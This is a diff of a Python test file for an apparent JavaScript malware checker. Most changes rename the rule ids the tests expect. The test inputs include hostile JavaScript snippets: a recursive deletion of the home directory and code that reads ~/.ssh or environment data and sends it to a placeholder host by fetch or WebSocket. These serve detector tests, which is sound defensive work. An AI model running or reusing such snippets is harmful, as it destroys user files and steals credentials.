@@ -10,9 +10,9 @@ from guard.corpus import Pair, pairs
 from whet.guard.code import checker as code
 from whet.guard.finding import Hit, Seen, Severity
 from whet.guard.javascript import checker as javascript
-from whet.guard.rules import pack
+from whet.guard.rules import every, pack
 
-SEVERITY: dict[str, Severity] = {rule.id: rule.severity for rule in pack("javascript")}
+SEVERITY: dict[str, Severity] = {rule.id: rule.severity for rule in every().values()}
 SCRIPTS = (".js", ".mjs", ".ts")
 PAIRS = [pair for pair in pairs() if pair.pack == "javascript"]
 
@@ -28,12 +28,8 @@ def seen(files: dict[str, bytes]) -> list[Hit]:
 
 
 def rules(text: str) -> set[str]:
-    """The rules of JavaScript that a script breaks, those that only inform left out."""
-    return {
-        hit.rule
-        for hit in javascript.check(text).hits
-        if hit.rule in SEVERITY and (hit.severity or SEVERITY[hit.rule]) != "info"
-    }
+    """The rules that a script breaks, those that only inform left out."""
+    return {hit.rule for hit in javascript.check(text).hits if (hit.severity or SEVERITY[hit.rule]) != "info"}
 
 
 @pytest.mark.parametrize("pair", PAIRS, ids=lambda pair: pair.id)
@@ -50,7 +46,7 @@ def test_every_rule_has_a_pair() -> None:
 
 def test_lines_are_those_of_the_script() -> None:
     text = "\n\nconst os = require('os');\n\nrequire('fs').rmSync(os.homedir(), { recursive: true });\n"
-    assert [(hit.rule, hit.line, hit.subject) for hit in javascript.check(text).hits] == [("js-destruction", 5, "~")]
+    assert [(hit.rule, hit.line, hit.subject) for hit in javascript.check(text).hits] == [("wipe-home", 5, "~")]
 
 
 @pytest.mark.parametrize(
@@ -63,7 +59,7 @@ def test_the_environment_is_followed_through_functions(url: str) -> None:
         f"  send() {{ const socket = new WebSocket('{url}'); socket.send(this.pack()); }}\n"
         "  pack() { return JSON.stringify(this.state); }\n}\nnew Reporter().send();\n"
     )
-    assert rules(text) == {"js-environment-exfiltration"}
+    assert rules(text) == {"secret-sent"}
 
 
 HONEST = {
@@ -141,7 +137,7 @@ def test_renaming_splitting_and_wrapping_hide_nothing(names: list[str], cut: int
     )
     if wrapped:
         script = f"(async function () {{\n{script}}})();\n"
-    assert rules(script) == {"js-secret-exfiltration", "js-hidden-names"}
+    assert rules(script) == {"secret-sent", "hidden-call"}
 
 
 PIECES = st.sampled_from(
@@ -236,7 +232,7 @@ def test_what_is_kept_in_an_object_is_followed(way: str) -> None:
         "const fs = require('fs'); const d = require('os').homedir() + '/.ssh/';\n"
         "function send(body) { fetch('https://status.invalid/x', { method: 'POST', body }); }\n"
     )
-    assert rules(text + way) == {"js-secret-exfiltration"}
+    assert rules(text + way) == {"secret-sent"}
 
 
 def test_types_do_not_hide_a_class() -> None:
@@ -251,7 +247,7 @@ def test_types_do_not_hide_a_class() -> None:
         "  }\n"
         "}\n"
     )
-    assert rules(text) == {"js-environment-exfiltration"}
+    assert rules(text) == {"secret-sent"}
 
 
 @pytest.mark.parametrize("text", ["x.push(x);", "x={...x,a:x};", "x=[x,x];", "x.a=x;JSON.stringify(x);"])
